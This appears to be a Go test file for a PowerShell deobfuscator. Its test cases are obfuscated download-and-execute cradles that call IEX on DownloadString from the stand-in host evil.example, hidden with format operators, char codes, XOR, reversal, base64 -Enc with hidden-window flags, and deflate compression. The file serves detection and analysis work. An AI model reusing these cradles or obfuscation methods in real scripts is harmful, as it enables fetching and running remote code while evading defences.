package deobfuscate

import (
	"strconv"
	"strings"
	"testing"
)

// TestPSSamples runs real-world-style obfuscated PowerShell through the
// whole pipeline and checks that the payload comes out readable.
func TestPSSamples(t *testing.T) {
	const cradle = "(New-Object Net.WebClient).DownloadString('http://evil.example/a')"
	rev := reverseRunes("IEX " + cradle)
	tests := []struct {
		name string
		in   string
		want []string
	}{
		{"Invoke-Obfuscation reorder (format operator)",
			`&("{1}{0}" -f 'EX','I') (("{0}{2}{1}" -f '(New-Object Net.WebC','String(''http://evil.example/a'')','lient).Download'))`,
			[]string{cradle}},
		{"concatenation, ticks and random case",
			"iNv`OKe-eXpReSsIoN ((NeW-ObJeCt ('Ne'+'t.We'+'bClient')).('Down'+'loadString').Invoke('http://evil.example/a'))",
			[]string{"Invoke-Expression", "New-Object ('Net.WebClient')", ".DownloadString.Invoke('http://evil.example/a')"}},
		{"char codes build iex",
			`&([char]105+[char]101+[char]120) ('Write-Host owned')`,
			[]string{"Write-Host owned"}},
		{"reversed string",
			`iex (-join ('` + strings.ReplaceAll(rev, "'", "''") + `')[-1..-` + strconv.Itoa(len(rev)) + `])`,
			[]string{"IEX " + cradle}},
		{"Emotet-style variables",
			`powershell $a='Down';$b='loadString';$c=New-Object Net.WebClient;$c.($a+$b)('http://evil.example/e')`,
			[]string{"DownloadString('http://evil.example/e')"}},
		{"replace with [char]39",
			`iex ('IEX(New-Object Net.WebClient).DownloadString(ZqZhttp://evil.example/aZqZ)').Replace('ZqZ',[char]39)`,
			[]string{"New-Object Net.WebClient", "DownloadString('http://evil.example/a')"}},
		{"bxor characters",
			`&([char](118 -bxor 31)+[char](122 -bxor 31)+[char](103 -bxor 31)) ('Write-Host owned')`,
			[]string{"Write-Host owned"}},
		{"encoded command around token obfuscation",
			`powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ` + psB64(`.( $ShellId[1]+$ShellId[13]+'x') ("{0}{1}" -f '(New-Object Net.WebClient).Downlo','adString(''http://evil.example/a'')')`),
			[]string{cradle}},
		{"embedded base64 with GetString",
			`powershell -c "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('` + psB64("IEX "+cradle) + `')))"`,
			[]string{cradle}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := Run(tc.in)
			for _, w := range tc.want {
				if !strings.Contains(r.Deobfuscated, w) {
					t.Errorf("missing %q in\n%s\nsteps: %v", w, r.Deobfuscated, stepNames(r.Steps))
				}
			}
		})
	}
}

func TestPSSamplesCompressed(t *testing.T) {
	const payload = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/z')"
	d := deflateB64(t, payload, false)
	in := `.( $pshome[4]+$pshome[30]+'x') (NeW-ObjeCt Io.sTreAmrEADER((NEw-OBJecT Io.COMPReSsioN.dEfLatESTrEam([IO.MemoryStream] [Convert]::FromBase64String('` + d + `'),[IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd()`
	r := Run(in)
	if !strings.Contains(r.Deobfuscated, "DownloadString('http://evil.example/z')") {
		t.Errorf("got %q, steps %v", r.Deobfuscated, stepNames(r.Steps))
	}
}

// TestPSBenignUnchanged checks that everyday commands pass untouched.
func TestPSBenignUnchanged(t *testing.T) {
	for _, in := range []string{
		`Get-ChildItem -Path C:\Users -Recurse | Where-Object { $_.Length -gt 1MB }`,
		`powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\scripts\backup.ps1`,
		`git commit -m "fix: handle 'quoted' names"`,
		"echo `date` > /tmp/now.txt",
		`grep -e foobar -e bazqux /var/log/syslog`,
	} {
		if r := Run(in); r.Changed {
			t.Errorf("%q changed to %q by %v", in, r.Deobfuscated, stepNames(r.Steps))
		}
	}
}

func stepNames(steps []Step) []string {
	var n []string
	for _, s := range steps {
		n = append(n, s.Transform)
	}
	return n
}
